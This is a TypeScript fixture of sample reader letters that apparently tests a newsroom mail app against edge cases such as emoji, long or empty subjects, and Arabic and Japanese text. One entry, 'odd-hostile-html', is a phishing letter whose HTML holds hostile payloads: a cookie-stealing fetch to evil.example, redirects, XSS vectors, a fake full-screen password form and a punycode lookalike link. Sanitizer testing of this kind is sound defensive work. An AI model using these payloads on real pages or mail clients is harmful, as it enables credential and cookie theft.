import type { DemoConversation } from '../letter.ts';
import { fromReader } from '../turn.ts';

/** Letters that test a reader's patience, or a program's. */
export const oddLetters: readonly DemoConversation[] = [
  {
    key: 'odd-emoji',
    sectionId: 'website-editor',
    language: 'en',
    readerName: 'Tilly 🌻',
    readerAddress: 'tilly@example.com',
    subject: '🎉🐙 Best story of the year!!! 👩‍🔬',
    turns: [
      fromReader(
        3.8,
        'The octopus that opened the lab door!!! 🐙🚪 My whole office read it. More of these please 🙏\n\nTilly',
        { unread: true },
      ),
    ],
  },
  {
    key: 'odd-long-subject',
    sectionId: 'world-services',
    language: 'en',
    readerName: 'Prof. em. Ludovic Vandermeersch',
    readerAddress: 'l.vandermeersch@emeriti.example',
    subject:
      'On the use of the word "unprecedented" in your reports of the last six weeks, in which I count it forty-one times, although in at least twenty-six of these cases there is a well-documented precedent, as I show below with references for each, beginning with the flood of 1910 and ending, provisionally, with last Tuesday',
    turns: [
      fromReader(
        64,
        'Dear editors,\n\nThe subject line says it. I will gladly send the references (eleven pages) if anyone wishes to read them.\n\nL. Vandermeersch',
      ),
    ],
  },
  {
    key: 'odd-no-subject',
    sectionId: 'members',
    language: 'en',
    readerName: 'Edna Rowbotham',
    readerAddress: 'edna.rowbotham@example.net',
    subject: '',
    turns: [
      fromReader(
        18.3,
        'Hello dear, my grandson set this up for me. Is this where I say that the paper did not come on Thursday? Edna Rowbotham, 3 Mill Cottages',
      ),
    ],
  },
  {
    key: 'odd-arabic',
    sectionId: 'world-services',
    language: 'en',
    readerName: 'سلمى حداد',
    readerAddress: 'salma.haddad@example.org',
    subject: 'سؤال عن مقالكم حول ترميم المعابد',
    turns: [
      fromReader(
        43,
        'تحية طيبة،\n\nقرأت مقالكم عن ترميم المعابد الخشبية في كيوتو (Kyoto) وأعجبني كثيرا. هل توجد نسخة باللغة العربية؟ أود أن أستخدمها في درسي.\n\nمع الشكر،\nسلمى حداد',
      ),
    ],
  },
  {
    key: 'odd-hostile-html',
    sectionId: 'website-editor',
    language: 'en',
    readerName: 'Prize Department',
    readerAddress: 'winner@lucky-draw.example',
    subject: 'Your mailbox is full: confirm within 24 hours',
    turns: [
      fromReader(
        28,
        'Your mailbox is full. Confirm here: http://minato.example.login-check.example/',
        {
          html: '<html><head><style>body{background:url(http://track.lucky-draw.example/bg.gif)}@import url(http://track.lucky-draw.example/a.css);</style><meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/"></head><body onload="fetch(\'http://evil.example/?c=\'+document.cookie)"><script>window.top.location="http://evil.example/"</script><img src="x" onerror="alert(1)"><svg onload="alert(2)"><a href="javascript:alert(3)">x</a></svg><form action="http://evil.example/login" method="post"><p style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999">Your mailbox is full.<br>Password: <input name="password" type="password"><button>Confirm</button></p></form><iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/o.swf"></object><a href="http://xn--mnato-5sa.example/" target="_top">https://www.minato.example/account</a><math><mtext><table><mglyph><style><img src=x onerror=alert(4)></style></mglyph></table></mtext></math></body></html>',
        },
      ),
    ],
  },
  {
    key: 'odd-emoji-ja',
    sectionId: 'members',
    language: 'ja',
    readerName: 'はるか🌸',
    readerAddress: 'haruka@example.com',
    subject: '会報の表紙がかわいかったです🐈‍⬛✨',
    turns: [
      fromReader(
        37,
        '今月号の表紙の黒猫がかわいくて、冷蔵庫に貼っています🐈‍⬛ ポストカードにはならないのでしょうか？\n\nはるか',
      ),
    ],
  },
];
